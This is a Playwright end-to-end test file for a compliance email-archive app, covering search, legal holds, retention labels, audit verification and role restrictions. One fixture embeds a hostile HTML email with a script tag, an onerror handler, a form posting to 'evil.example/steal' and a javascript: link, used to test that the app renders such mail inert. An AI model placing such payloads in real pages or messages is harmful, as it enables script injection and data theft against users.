import { expect, test } from "@playwright/test";
import { ADMIN, adminToken as ensureAdministrator, login, signIn } from "./session";

/**
 * One officer's day in a real Chromium against the production build: sign-in, upload and
 * search, email view with hostile HTML, legal hold bulk apply, label and explanation, audit
 * verification, and a Read Only user who is refused. Screenshots land in docs/screenshots/.
 */
const READER = { email: "reader@example.com", password: "reader password 123", first_name: "Rita", last_name: "Reader" };

function message(subject: string, body: string, html = false): string {
  return [
    "From: Alice Sender <alice@example.com>",
    "To: Bob <bob@example.com>",
    `Subject: ${subject}`,
    "Date: Mon, 15 Jan 2024 12:00:00 +0000",
    `Message-ID: <${subject.replace(/\W+/g, "-")}@e2e.example>`,
    "MIME-Version: 1.0",
    `Content-Type: text/${html ? "html" : "plain"}; charset=utf-8`,
    "",
    body,
    "",
  ].join("\r\n");
}

const HOSTILE_HTML = `<p>Totally harmless invoice</p><script>window.parent.pwned = true; fetch("https://evil.example/script")</script>
<img src="https://evil.example/pixel.png" onerror="window.parent.pwned = true"><form action="https://evil.example/steal"><input name="x"></form>
<a href="javascript:window.parent.pwned=true">click</a>`;

const MBOX = [
  message("Zeppelin procurement plan", "The zeppelin fleet budget is attached in spirit."),
  message("Lunch on Friday", "Pizza or sushi?"),
  message("Hostile invoice", HOSTILE_HTML, true),
]
  .map((raw) => `From sender@example.com Mon Jan 15 12:00:00 2024\n${raw.replace(/^(>*From )/gm, ">$1")}\n`)
  .join("");

test.describe.serial("compliance officer", () => {
  // The first-run setup through the /setup page is e2e/first-hour.spec.ts's (it meets the empty database).
  test("sign-out and sign-in", async ({ page, request }) => {
    await ensureAdministrator(request);
    await signIn(page, ADMIN);
    await page.getByRole("button", { name: "Sign out" }).click();
    await expect(page).toHaveURL(/\/login/);
    await signIn(page, ADMIN);
  });

  test("upload an mbox with a progress bar and find a message by full-text search", async ({ page }) => {
    await signIn(page, ADMIN);
    await page.getByRole("link", { name: "Ingestion sources" }).click();
    const create = page.getByRole("form", { name: "New upload source" });
    await create.getByLabel("Name").fill("Uploads");
    await create.getByRole("button", { name: "Create" }).click();
    await expect(page.getByRole("cell", { name: "Uploads" })).toBeVisible();
    const upload = page.getByRole("form", { name: "Upload mail" });
    await upload.getByLabel("Mailbox").fill("bob@example.com");
    await upload.getByLabel("Files").setInputFiles({ name: "inbox.mbox", mimeType: "application/mbox", buffer: Buffer.from(MBOX) });
    await upload.getByRole("button", { name: "Upload" }).click();
    await expect(upload.getByRole("status")).toHaveText("Imported 3, duplicates 0, failed 0");
    // Into the source just created, not the first upload source the form had shown.
    await expect(page.getByRole("row").filter({ hasText: "Uploads" }).getByRole("cell").nth(4)).toHaveText("3");

    await page.getByRole("link", { name: "Emails" }).click();
    await page.getByLabel("Words").fill("zeppelin");
    await page.getByRole("button", { name: "Search" }).click();
    await expect(page).toHaveURL(/query=zeppelin/);
    const results = page.getByRole("region", { name: "Results" });
    await expect(results.getByText("1 email")).toBeVisible();
    await expect(results.getByRole("link", { name: "Zeppelin procurement plan" })).toBeVisible();
    // Recipients and the archived mailbox are separate columns (the list used to show "sender → mailbox").
    const zeppelin = results.getByRole("row").filter({ hasText: "Zeppelin procurement plan" });
    await expect(zeppelin.getByTestId("result-recipients")).toHaveText("Bob <bob@example.com>");
    await expect(zeppelin.getByTestId("result-mailbox")).toHaveText("bob@example.com");
    await expect(results.locator("mark").first()).toHaveText(/zeppelin/i);
    await page.screenshot({ path: "docs/screenshots/emails.png", fullPage: true });
    // The query language in the same box: fields and negation, evaluated exactly as written.
    await page.getByLabel("Words").fill("subject:zeppelin OR (pizza -sushi)");
    await page.getByRole("button", { name: "Search" }).click();
    await expect(page).toHaveURL(/query=subject%3Azeppelin/);
    await expect(results.getByText("1 email")).toBeVisible();
    await expect(results.getByTestId("normalized-query")).toHaveText("subject:zeppelin OR (pizza AND NOT sushi)");
    // A query the language refuses is explained under the box in plain words, not as a failure.
    await page.getByLabel("Words").fill("(pizza");
    await page.getByRole("button", { name: "Search" }).click();
    await expect(page.getByTestId("query-problem")).toHaveText(
      'This query cannot run: at character 7: expected ")" but found the end of the query',
    );
    await expect(page.getByText("Something went wrong")).toHaveCount(0);
    await page.getByLabel("Words").fill("subject:zeppelin OR pizza");
    await page.getByRole("button", { name: "Search" }).click();
    await expect(results.getByText("2 emails")).toBeVisible();
    // A filter shortcut writes its clause into the query; the fields used are highlighted.
    const shortcuts = page.getByRole("group", { name: "Add a filter to the query" });
    await shortcuts.getByLabel("Filter").selectOption({ label: "Mailbox" });
    await shortcuts.getByLabel("Value").fill("nobody@example.com");
    await shortcuts.getByRole("button", { name: "Add to query" }).click();
    await expect(page.getByLabel("Words")).toHaveValue("subject:zeppelin OR pizza mailbox:nobody@example.com");
    const queryAsRead = page.getByLabel("The query as read");
    await expect(queryAsRead.locator('[data-kind="field"]')).toHaveText(["subject:zeppelin", "mailbox:nobody@example.com"]);
    await expect(queryAsRead.locator('[data-kind="operator"]')).toHaveText(["OR"]);
    await page.getByRole("button", { name: "Search" }).click();
    await expect(page).toHaveURL(/mailbox%3Anobody%40example.com/);
    await expect(results.getByTestId("normalized-query")).toHaveText("subject:zeppelin OR (pizza AND mailbox:nobody@example.com)");
    await expect(results.getByText("1 email")).toBeVisible();
    await page.getByRole("link", { name: "Dashboard" }).click();
    await expect(page.getByText("Emails archived", { exact: true })).toBeVisible();
    await page.screenshot({ path: "docs/screenshots/dashboard.png", fullPage: true });
  });

  test("an email with hostile HTML renders inert", async ({ page }) => {
    const remoteRequests: string[] = [];
    page.on("request", (request) => request.url().includes("evil.example") && remoteRequests.push(request.url()));
    await signIn(page, ADMIN);
    await page.goto("/emails?query=invoice");
    await page.getByRole("link", { name: "Hostile invoice" }).click();
    const frame = page.frameLocator('iframe[title="Message body"]');
    await expect(frame.getByText("Totally harmless invoice")).toBeVisible();
    await expect(page.locator('iframe[title="Message body"]')).toHaveAttribute("sandbox", "");
    await expect(frame.locator("script, form, [onerror]")).toHaveCount(0);
    await page.waitForTimeout(500);
    expect(await page.evaluate(() => (window as unknown as { pwned?: boolean }).pwned)).toBeUndefined();
    expect(remoteRequests).toEqual([]);
    await page.screenshot({ path: "docs/screenshots/email.png", fullPage: true });
  });

  test("bulk-apply a hold from a search, fail to delete the held email, deactivate and delete the hold", async ({ page, request }) => {
    const adminToken = await login(request, ADMIN);
    expect(
      (await request.put("/v1/settings", { headers: { authorization: `Bearer ${adminToken}` }, data: { deletionEnabled: true } })).status(),
    ).toBe(200);
    await signIn(page, ADMIN);
    await page.getByRole("link", { name: "Legal holds" }).click();
    const create = page.getByRole("form", { name: "New legal hold" });
    await create.getByLabel("Name").fill("Case Zeppelin");
    await create.getByRole("button", { name: "Create hold" }).click();
    await expect(page.getByTestId("hold-Case Zeppelin")).toBeVisible();
    const bulk = page.getByRole("form", { name: "Bulk apply from a search" });
    await bulk.getByLabel("Hold").selectOption({ label: "Case Zeppelin" });
    // Filters alone: the preview names each of them and warns about no clause (it read "Runs as (every email)" and "100%").
    await bulk.getByLabel("From", { exact: true }).fill("alice@example.com");
    await bulk.getByRole("button", { name: "Preview matches" }).click();
    const filtered = bulk.getByRole("region", { name: "Query explanation" });
    await expect(filtered.getByTestId("explain-filters")).toHaveText("from alice@example.com");
    // The archive holds what every spec run before this one imported (e2e/first-hour.spec.ts's first): no fixed total.
    await expect(filtered).toContainText(/: \d+ of [\d,]+ emails you may read \(\d+ within the filters\)\./);
    await expect(filtered.getByRole("alert")).toHaveCount(0);
    await bulk.getByLabel("From", { exact: true }).fill("");
    // A query of the search language, explained before it is applied: each clause with its count, and a warning for the broad one.
    await bulk.getByLabel("Query", { exact: true }).fill("subject:zeppelin from:@example.com -lunch");
    await bulk.getByRole("button", { name: "Preview matches" }).click();
    const explanation = bulk.getByRole("region", { name: "Query explanation" });
    await expect(explanation.getByTestId("explain-normalized")).toHaveText("subject:zeppelin AND from:@example.com AND NOT lunch");
    await expect(explanation).toContainText(/exactly as written: 1 of [\d,]+ emails you may read/);
    await expect(explanation.getByRole("listitem").filter({ hasText: /^from:@example\.com · \d+$/ })).toBeVisible();
    // Far more than a tenth of the e2e archive comes from example.com (this file's three and CPython's five included).
    await expect(
      explanation
        .getByRole("alert")
        .filter({ hasText: /Broad clause: from:@example\.com matches \d+ of [\d,]+ emails \(\d+%\): it may bring in far more/ }),
    ).toBeVisible();
    await expect(bulk.getByTestId("bulk-preview-count")).toHaveText("1 matching emails");
    await bulk.getByRole("button", { name: "Apply hold to 1 emails" }).click();
    await expect(bulk.getByTestId("bulk-result")).toHaveText("1 emails newly linked");
    await page.screenshot({ path: "docs/screenshots/holds.png", fullPage: true });

    await page.goto("/emails?query=zeppelin");
    await page.getByRole("link", { name: "Zeppelin procurement plan" }).click();
    await expect(page.getByText("On legal hold")).toBeVisible();
    await page.getByRole("button", { name: "Delete" }).click();
    await page.getByRole("dialog").getByRole("button", { name: "Delete" }).click();
    await expect(page.getByText(/on legal hold \(Case Zeppelin\) and cannot be deleted/)).toBeVisible();

    await page.getByRole("link", { name: "Legal holds" }).click();
    const row = page.getByTestId("hold-Case Zeppelin");
    await expect(row.getByRole("button", { name: "Delete" })).toBeDisabled();
    await row.getByRole("button", { name: "Deactivate" }).click();
    await expect(row.getByText("Inactive")).toBeVisible();
    await row.getByRole("button", { name: "Delete" }).click();
    await page.getByRole("dialog").getByRole("button", { name: "Delete hold" }).click();
    await expect(page.getByTestId("hold-Case Zeppelin")).toHaveCount(0);
  });

  test("apply a retention label and see the explanation", async ({ page, request }) => {
    const adminToken = await login(request, ADMIN);
    const label = await request.post("/api/v1/enterprise/retention-policy/labels", {
      headers: { authorization: `Bearer ${adminToken}` },
      data: { name: "Seven years", retentionPeriodDays: 2555 },
    });
    expect(label.status()).toBe(201);
    await signIn(page, ADMIN);
    await page.goto("/emails?query=lunch");
    await page.getByRole("link", { name: "Lunch on Friday" }).click();
    await expect(page.getByTestId("recipients-to")).toHaveText("Bob <bob@example.com>");
    await expect(page.getByTestId("retention-explanation")).toHaveText("Kept forever: no label or retention policy applies.");
    await page.getByLabel("Label to apply").selectOption({ label: "Seven years" });
    await page.getByRole("button", { name: "Apply label" }).click();
    await expect(page.getByTestId("retention-explanation")).toHaveText(
      /Will be deleted on \d{4}-\d{2}-\d{2} by label "Seven years" \(2555 days\)\./,
    );
  });

  test("verify the audit chain", async ({ page }) => {
    await signIn(page, ADMIN);
    await page.getByRole("link", { name: "Audit log" }).click();
    await page.getByRole("button", { name: "Verify chain" }).click();
    await expect(page.getByTestId("verify-result")).toContainText("Chain verified");
    await page.screenshot({ path: "docs/screenshots/audit.png", fullPage: true });
  });

  test("a Read Only user cannot see admin pages and the server refuses them anyway", async ({ page, request }) => {
    const adminToken = await login(request, ADMIN);
    const roles = await (await request.get("/v1/roles", { headers: { authorization: `Bearer ${adminToken}` } })).json();
    const readOnly = roles.find(
      (role: { slug?: string; name: string }) => role.slug === "predefined_read_only" || /read only/i.test(role.name),
    );
    const created = await request.post("/v1/users", {
      headers: { authorization: `Bearer ${adminToken}` },
      data: { ...READER, roleId: readOnly.id },
    });
    expect(created.status()).toBe(201);
    await signIn(page, READER);
    const nav = page.getByRole("navigation", { name: "Main" });
    await expect(nav.getByRole("link", { name: "Emails" })).toBeVisible();
    await expect(nav.getByRole("link", { name: "Ingestion sources" })).toHaveCount(0);
    await expect(nav.getByRole("link", { name: "Legal holds" })).toHaveCount(0);
    await expect(nav.getByRole("link", { name: "Audit log" })).toHaveCount(0);
    const refused = await page.evaluate(async () => {
      const response = await fetch("/api/trpc/sources.list", { headers: { "x-trpc-source": "web" } });
      return response.status;
    });
    expect(refused).toBe(403);
    // A page of a section the role may not open says so, instead of its forms and "Something went wrong".
    await page.goto("/holds");
    await expect(page.getByRole("heading", { name: "Not allowed" })).toBeVisible();
    await expect(page.getByText("Legal holds is not available to your account (Read Only)")).toBeVisible();
    await expect(page.getByRole("form", { name: "New legal hold" })).toHaveCount(0);
    await expect(page.getByText("Something went wrong")).toHaveCount(0);
  });
});
